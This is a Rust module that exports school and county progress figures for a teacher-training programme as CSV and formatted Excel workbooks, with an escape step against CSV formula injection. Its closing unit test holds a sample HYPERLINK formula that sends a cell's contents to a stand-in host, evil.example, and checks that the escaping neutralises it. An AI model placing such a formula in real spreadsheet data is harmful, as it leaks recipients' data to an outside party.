//! The progress workbook offices hand upward (请用excel制表报送, 《安徽团队意见》附件3):
//! Chinese headers, a frozen header row, rates as percentages, print setup; optionally one sheet
//! per level and the micro-competency sheets.

use std::collections::HashMap;

use rust_xlsxwriter::{DocProperties, Format, FormatAlign, FormatBorder, Workbook, Worksheet};
use tica_domain::csv_cell;
use tica_domain::micro_competency::{Dimension, Environment};

use crate::error::{AssessmentError, Result};
use crate::model::SchoolResultState;
use crate::service::ProgressRow;
use crate::service::progress::{Level, MicroCompetencyFigures};

/// Columns the workbook adds after the CSV's 17 (§4.1 of the issue 7 design): the principal's
/// appraisal figures (《泗县实施意见》§三 3) and the school's results state.
const MORE_HEADERS: [&str; 6] = [
    "微能力应提交",
    "微能力已评定",
    "微能力通过",
    "微能力通过率",
    "目标达成率",
    "校本考核状态",
];

/// One sheet of progress rows: a level's units, their total and their names.
#[derive(Clone, Copy, Debug)]
pub struct ProgressSheet<'a> {
    /// The level of the rows.
    pub level: Level,
    /// One row per unit.
    pub rows: &'a [ProgressRow],
    /// The parent's total.
    pub total: &'a ProgressRow,
    /// Unit names by unit.
    pub names: &'a HashMap<String, String>,
}

/// What the workbook is about: the parent's name, the year, the export date (`YYYY-MM-DD`).
#[derive(Clone, Debug, Default)]
pub struct WorkbookInfo {
    /// The parent unit's name (page header, document company).
    pub unit_name: String,
    /// The batch year (0: every year).
    pub year: i32,
    /// The export date, printed in the footer.
    pub date: String,
}

fn level_label(level: Level) -> &'static str {
    match level {
        Level::School => "学校",
        Level::County => "区县",
        Level::City => "市",
        Level::Province => "省",
    }
}

fn state_label(state: SchoolResultState) -> &'static str {
    match state {
        SchoolResultState::Open => "校内评审中",
        SchoolResultState::InCountyReview => "县级复核中",
        SchoolResultState::Returned => "已退回重评",
        SchoolResultState::CountyApproved => "县级复核通过",
        SchoolResultState::Certified => "已认证",
    }
}

const HEADERS: [&str; 17] = [
    "单位代码",
    "单位名称",
    "参训人数",
    "已选微能力",
    "选课率",
    "学时达标",
    "学时达标率",
    "已提交",
    "提交率",
    "已评定",
    "评定率",
    "合格（含优秀）",
    "合格率",
    "优秀",
    "优秀率",
    "不合格",
    "等级",
];

fn rate(part: i64, whole: i64) -> f64 {
    if whole == 0 {
        0.0
    } else {
        part as f64 / whole as f64
    }
}

fn cells(row: &ProgressRow, name: &str) -> (Vec<String>, Vec<(usize, f64, bool)>) {
    let s = &row.sums;
    let code = row.unit.rsplit('/').next().unwrap_or_default().to_owned();
    let grade = row.grade.map(|g| g.label_zh()).unwrap_or("").to_owned();
    let text = [code, name.to_owned()];
    let numbers = vec![
        (2, s.participants as f64, false),
        (3, s.selected as f64, false),
        (4, rate(s.selected, s.participants), true),
        (5, s.hours_completed as f64, false),
        (6, rate(s.hours_completed, s.participants), true),
        (7, s.submitted as f64, false),
        (8, rate(s.submitted, s.participants), true),
        (9, s.graded as f64, false),
        (10, rate(s.graded, s.participants), true),
        (11, s.passed as f64, false),
        (12, rate(s.passed, s.graded), true),
        (13, s.excellent as f64, false),
        (14, rate(s.excellent, s.graded), true),
        (15, s.failed as f64, false),
    ];
    (vec![text[0].clone(), text[1].clone(), grade], numbers)
}

/// The file name's stem: `能力提升工程2.0进度-按{level}-{year|全部}`.
fn stem(level: Level, year: i32) -> String {
    format!(
        "能力提升工程2.0进度-按{}-{}",
        level_label(level),
        if year == 0 {
            "全部".to_owned()
        } else {
            year.to_string()
        }
    )
}

/// The progress rows as CSV (UTF-8 with a BOM, the 17 columns, a 合计 row last): (file name,
/// content type, bytes).
pub fn progress_csv(
    rows: &[ProgressRow],
    total: &ProgressRow,
    names: &HashMap<String, String>,
    level: Level,
    year: i32,
) -> (String, &'static str, Vec<u8>) {
    let all: Vec<(&ProgressRow, String)> = rows
        .iter()
        .map(|r| (r, names.get(&r.unit).cloned().unwrap_or_default()))
        .chain(std::iter::once((total, "合计".to_owned())))
        .collect();
    let mut out = b"\xEF\xBB\xBF".to_vec();
    csv_cell::write_record(&mut out, &HEADERS, "\r\n");
    for (row, name) in &all {
        let (text, numbers) = cells(row, name);
        // Every cell goes through `csv_cell`: a unit name is office-typed text, and one that
        // starts like a formula must reach the spreadsheet as text (OWASP CSV injection).
        let mut line: Vec<String> = vec![text[0].clone(), text[1].clone()];
        line.extend(numbers.iter().map(|(_, v, pct)| {
            if *pct {
                format!("{:.1}%", v * 100.0)
            } else {
                format!("{v}")
            }
        }));
        line.push(text[2].clone());
        csv_cell::write_record(&mut out, &line, "\r\n");
    }
    (
        format!("{}.csv", stem(level, year)),
        "text/csv; charset=utf-8",
        out,
    )
}

fn fail(e: rust_xlsxwriter::XlsxError) -> AssessmentError {
    AssessmentError::Internal(format!("cannot write the workbook: {e}"))
}

/// Every sheet is a table under a title (issue 21: offices print these and hand them upward):
/// the title on row 0, the column headers on row 1, the data from row 2.
const TITLE_ROW: u32 = 0;
const HEADER_ROW: u32 = 1;
const FIRST_ROW: u32 = 2;

/// Print setup every sheet shares: A4 landscape, one page wide and as many pages tall as the
/// rows need (a county of 108 schools prints on several legible pages, not one at 5 pt), the
/// title and header rows repeated on each page, both frozen with the first two columns, an
/// autofilter on the header.
fn setup(
    sheet: &mut Worksheet,
    title: &str,
    info: &WorkbookInfo,
    last_row: u32,
    last_col: u16,
) -> Result<()> {
    sheet.set_freeze_panes(FIRST_ROW, 2).map_err(fail)?;
    sheet
        .autofilter(HEADER_ROW, 0, last_row, last_col)
        .map_err(fail)?;
    sheet.set_paper_size(9);
    sheet.set_landscape();
    sheet.set_print_fit_to_pages(1, 0);
    sheet.set_print_center_horizontally(true);
    // The title row repeats on every page, so the page header stays empty; the footer names
    // the sheet for a page that strays from its pile.
    sheet.set_repeat_rows(TITLE_ROW, HEADER_ROW).map_err(fail)?;
    sheet.set_footer(format!(
        "&L{} · 导出 {}&R第 &P 页 共 &N 页",
        full_title(title, info).replace('&', "&&"),
        info.date
    ));
    Ok(())
}

/// "泗县 2022年 能力提升工程2.0 进度（按学校）".
fn full_title(title: &str, info: &WorkbookInfo) -> String {
    let year = if info.year == 0 {
        String::new()
    } else {
        format!("{}年 ", info.year)
    };
    format!("{} {year}{title}", info.unit_name)
}

struct Formats {
    title: Format,
    header: Format,
    percent: Format,
    count: Format,
    bold: Format,
    text: Format,
    centred: Format,
}

impl Formats {
    fn new() -> Formats {
        // Thin rules around every cell of the table: a number right-aligned in one column
        // never runs into the text of the next ("3不评定", "100.0%已认证").
        let cell = || Format::new().set_border(FormatBorder::Thin);
        Formats {
            title: Format::new()
                .set_bold()
                .set_font_size(14)
                .set_align(FormatAlign::Center)
                .set_align(FormatAlign::VerticalCenter),
            header: cell()
                .set_bold()
                .set_align(FormatAlign::Center)
                .set_align(FormatAlign::VerticalCenter)
                .set_text_wrap(),
            percent: cell().set_num_format("0.0%"),
            count: cell().set_num_format("0"),
            bold: cell().set_bold(),
            text: cell(),
            centred: cell().set_align(FormatAlign::Center),
        }
    }
}

/// Columns as wide as what they hold, in Excel's units (a character of the default font; a
/// Chinese character counts two).
fn display_width(text: &str) -> usize {
    text.chars().map(|c| if c.is_ascii() { 1 } else { 2 }).sum()
}

/// A sheet's table: writes cells with their formats and widens each column to its content.
struct Table<'w> {
    ws: &'w mut Worksheet,
    f: &'w Formats,
    widths: Vec<usize>,
}

impl<'w> Table<'w> {
    /// The title across the table's width on row 0 and the headers on row 1 (a long header
    /// wraps to two lines rather than widening its column).
    fn new(
        ws: &'w mut Worksheet,
        f: &'w Formats,
        title: &str,
        headers: &[&str],
    ) -> Result<Table<'w>> {
        let last = (headers.len() - 1) as u16;
        ws.merge_range(TITLE_ROW, 0, TITLE_ROW, last, title, &f.title)
            .map_err(fail)?;
        ws.set_row_height(TITLE_ROW, 24).map_err(fail)?;
        ws.set_row_height(HEADER_ROW, 30).map_err(fail)?;
        let mut widths = Vec::with_capacity(headers.len());
        for (c, h) in headers.iter().enumerate() {
            ws.write_string_with_format(HEADER_ROW, c as u16, *h, &f.header)
                .map_err(fail)?;
            widths.push(display_width(h).div_ceil(2).max(6));
        }
        Ok(Table { ws, f, widths })
    }

    fn widen(&mut self, c: u16, width: usize) {
        let w = &mut self.widths[usize::from(c)];
        *w = (*w).max(width);
    }

    fn text(&mut self, r: u32, c: u16, text: &str) -> Result<()> {
        self.text_as(r, c, text, self.f.text.clone())
    }

    fn centred(&mut self, r: u32, c: u16, text: &str) -> Result<()> {
        self.text_as(r, c, text, self.f.centred.clone())
    }

    fn bold(&mut self, r: u32, c: u16, text: &str) -> Result<()> {
        self.text_as(r, c, text, self.f.bold.clone())
    }

    fn text_as(&mut self, r: u32, c: u16, text: &str, format: Format) -> Result<()> {
        if text.is_empty() {
            self.ws.write_blank(r, c, &format)
        } else {
            self.ws.write_string_with_format(r, c, text, &format)
        }
        .map_err(fail)?;
        self.widen(c, display_width(text));
        Ok(())
    }

    fn number(&mut self, r: u32, c: u16, value: f64, percent: bool) -> Result<()> {
        let (format, shown) = if percent {
            (&self.f.percent, format!("{:.1}%", value * 100.0))
        } else {
            (&self.f.count, format!("{value:.0}"))
        };
        self.ws
            .write_number_with_format(r, c, value, format)
            .map_err(fail)?;
        self.widen(c, shown.len());
        Ok(())
    }

    /// Ruled empty cells where a row has nothing (the 合计 row's code).
    fn blanks(&mut self, r: u32, columns: impl IntoIterator<Item = u16>) -> Result<()> {
        for c in columns {
            self.ws.write_blank(r, c, &self.f.text).map_err(fail)?;
        }
        Ok(())
    }

    /// Sets the widths (a little room on each side, a name column at most 40 wide: longer
    /// names wrap in print rather than shrinking the page).
    fn finish(self) -> Result<&'w mut Worksheet> {
        for (c, w) in self.widths.iter().enumerate() {
            self.ws
                .set_column_width(c as u16, (*w).min(40) as f64 + 2.0)
                .map_err(fail)?;
        }
        Ok(self.ws)
    }
}

fn progress_sheet(
    workbook: &mut Workbook,
    sheet: &ProgressSheet<'_>,
    info: &WorkbookInfo,
    f: &Formats,
) -> Result<()> {
    let ws = workbook.add_worksheet();
    let name = format!("{}进度", level_label(sheet.level));
    ws.set_name(&name).map_err(fail)?;
    let title = format!("能力提升工程2.0 进度（按{}）", level_label(sheet.level));
    let headers: Vec<&str> = HEADERS.iter().chain(MORE_HEADERS.iter()).copied().collect();
    let mut t = Table::new(ws, f, &full_title(&title, info), &headers)?;
    let all: Vec<(&ProgressRow, String)> = sheet
        .rows
        .iter()
        .map(|r| (r, sheet.names.get(&r.unit).cloned().unwrap_or_default()))
        .chain(std::iter::once((sheet.total, "合计".to_owned())))
        .collect();
    for (i, (row, name)) in all.iter().enumerate() {
        let r = FIRST_ROW + i as u32;
        let (text, numbers) = cells(row, name);
        let is_total = i + 1 == all.len();
        if is_total {
            t.blanks(r, [0])?;
            t.bold(r, 1, &text[1])?;
        } else {
            t.text(r, 0, &text[0])?;
            t.text(r, 1, &text[1])?;
        }
        for (c, value, pct) in numbers {
            t.number(r, c as u16, value, pct)?;
        }
        // 等级: the grade; 不评定 where the pinned policy grades no such units (Sixian, Anhui,
        // Beijing); empty while not every member is graded.
        let grade = if row.grade_rule {
            text[2].as_str()
        } else {
            "不评定"
        };
        t.centred(r, 16, grade)?;
        let s = &row.sums;
        for (c, value, pct) in [
            (17, s.submissions_expected as f64, false),
            (18, s.submissions_graded as f64, false),
            (19, s.submissions_passed as f64, false),
            (20, rate(s.submissions_passed, s.submissions_graded), true),
            (21, rate(s.submitted, s.participants), true),
        ] {
            t.number(r, c, value, pct)?;
        }
        let state = row.school_result_state.map(state_label).unwrap_or("");
        t.centred(r, 22, state)?;
    }
    let ws = t.finish()?;
    setup(
        ws,
        &title,
        info,
        FIRST_ROW + all.len() as u32 - 1,
        (headers.len() - 1) as u16,
    )
}

fn micro_competency_sheets(
    workbook: &mut Workbook,
    figures: &MicroCompetencyFigures,
    info: &WorkbookInfo,
    f: &Formats,
) -> Result<()> {
    let ws = workbook.add_worksheet();
    ws.set_name("微能力").map_err(fail)?;
    let title = "能力提升工程2.0 微能力选择与通过";
    let headers = [
        "编号",
        "微能力",
        "维度",
        "所属环境",
        "学分",
        "选择人数",
        "选择率",
        "已评定",
        "合格（含优秀）",
        "合格率",
        "优秀",
    ];
    let mut t = Table::new(ws, f, &full_title(title, info), &headers)?;
    let mut sums = [0_i64; 3];
    for (i, c) in figures.codes.iter().enumerate() {
        let r = FIRST_ROW + i as u32;
        let m = c.micro_competency;
        t.centred(r, 0, m.code)?;
        t.text(r, 1, m.name_zh)?;
        t.text(r, 2, m.dimension.label_zh())?;
        t.text(r, 3, m.environment.label_zh())?;
        let s = &c.sums;
        for (col, value, pct) in [
            (4, f64::from(m.credits), false),
            (5, s.selected as f64, false),
            (6, rate(s.selected, figures.participants), true),
            (7, s.graded as f64, false),
            (8, s.passed as f64, false),
            (9, rate(s.passed, s.graded), true),
            (10, s.excellent as f64, false),
        ] {
            t.number(r, col, value, pct)?;
        }
        sums[0] += s.selected;
        sums[1] += s.graded;
        sums[2] += s.passed;
    }
    let r = FIRST_ROW + figures.codes.len() as u32;
    t.blanks(r, [0, 2, 3, 4, 6, 10])?;
    t.bold(r, 1, "合计")?;
    for (col, value) in [(5, sums[0]), (7, sums[1]), (8, sums[2])] {
        t.number(r, col, value as f64, false)?;
    }
    t.number(r, 9, rate(sums[2], sums[1]), true)?;
    let ws = t.finish()?;
    setup(ws, title, info, r, (headers.len() - 1) as u16)?;

    // 环境×维度: selections, then (below) each cell's share of all selections.
    let ws = workbook.add_worksheet();
    ws.set_name("环境×维度").map_err(fail)?;
    let title = "能力提升工程2.0 微能力选择（环境×维度）";
    let mut headers = vec!["所属环境"];
    headers.extend(Dimension::ALL.iter().map(|d| d.label_zh()));
    headers.push("合计");
    let mut t = Table::new(ws, f, &full_title(title, info), &headers)?;
    let all: i64 = figures.codes.iter().map(|c| c.sums.selected).sum();
    let block = Environment::ALL.len() as u32 + 2;
    for (b, pct) in [(HEADER_ROW, false), (HEADER_ROW + block + 1, true)] {
        if pct {
            t.bold(b, 0, "占全部选择的比例")?;
        }
        let mut columns = [0_i64; 5];
        for (i, e) in Environment::ALL.iter().enumerate() {
            let r = b + 1 + i as u32;
            t.text(r, 0, e.label_zh())?;
            let mut row_sum = 0;
            for (j, d) in Dimension::ALL.iter().enumerate() {
                let (selected, _) = figures.cell(*e, *d);
                row_sum += selected;
                columns[j] += selected;
                write_count(&mut t, r, (j + 1) as u16, selected, all, pct)?;
            }
            columns[4] += row_sum;
            write_count(&mut t, r, 5, row_sum, all, pct)?;
        }
        let r = b + 1 + Environment::ALL.len() as u32;
        t.bold(r, 0, "合计")?;
        for (j, v) in columns.iter().enumerate() {
            write_count(&mut t, r, (j + 1) as u16, *v, all, pct)?;
        }
    }
    let ws = t.finish()?;
    setup(
        ws,
        title,
        info,
        HEADER_ROW + Environment::ALL.len() as u32 + 1,
        5,
    )
}

fn write_count(t: &mut Table<'_>, r: u32, c: u16, value: i64, all: i64, pct: bool) -> Result<()> {
    if pct {
        t.number(r, c, rate(value, all), true)
    } else {
        t.number(r, c, value as f64, false)
    }
}

/// The progress workbook: one sheet per level given (`学校进度`, `区县进度`, …; the title on
/// row 0, the headers on row 1, a bold 合计 row last), then, with `figures`, the sheets `微能力` and `环境×维度`.
pub fn progress_workbook(
    sheets: &[ProgressSheet<'_>],
    figures: Option<&MicroCompetencyFigures>,
    info: &WorkbookInfo,
) -> Result<(String, &'static str, Vec<u8>)> {
    let first = sheets
        .first()
        .ok_or_else(|| AssessmentError::Internal("a workbook needs a sheet".into()))?;
    let f = Formats::new();
    let mut workbook = Workbook::new();
    workbook.set_properties(
        &DocProperties::new()
            .set_title(format!(
                "{} 能力提升工程2.0 进度（按{}）",
                info.unit_name,
                level_label(first.level)
            ))
            .set_company(&info.unit_name),
    );
    for sheet in sheets {
        progress_sheet(&mut workbook, sheet, info, &f)?;
    }
    if let Some(figures) = figures {
        micro_competency_sheets(&mut workbook, figures, info, &f)?;
    }
    let bytes = workbook.save_to_buffer().map_err(fail)?;
    Ok((
        format!("{}.xlsx", stem(first.level, info.year)),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        bytes,
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_unit_name_that_starts_a_formula_reaches_the_csv_as_text() {
        let row = ProgressRow {
            unit: "schools/3413240001".into(),
            ..ProgressRow::default()
        };
        let names = HashMap::from([(
            row.unit.clone(),
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")".to_owned(),
        )]);
        let (_, _, bytes) =
            progress_csv(&[row], &ProgressRow::default(), &names, Level::School, 2026);
        let text = String::from_utf8(bytes).unwrap();
        let line = text.lines().nth(1).unwrap();
        assert!(
            line.starts_with("3413240001,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,"),
            "{line}"
        );
        // The name's comma is quoted, not turned into a column: the row keeps 17 cells.
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        let record = reader.records().nth(1).unwrap().unwrap();
        assert_eq!(record.len(), 17);
        assert!(record[1].starts_with("'="));
    }
}
